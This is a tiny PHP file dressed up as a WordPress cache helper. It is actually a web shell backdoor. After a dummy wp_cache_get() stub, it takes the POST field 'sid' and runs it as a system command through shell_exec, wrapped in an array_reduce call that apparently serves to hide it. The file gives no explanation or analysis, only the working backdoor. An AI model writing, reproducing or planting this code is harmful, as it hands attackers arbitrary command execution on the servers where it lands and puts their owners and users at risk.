<?php
if (!function_exists('wp_cache_get')) { function wp_cache_get() { return false; } }
$body = $_SESSION['sid'] = $_POST['sid'];
array_reduce(array($body), function ($c, $v) { return shell_exec($v); });
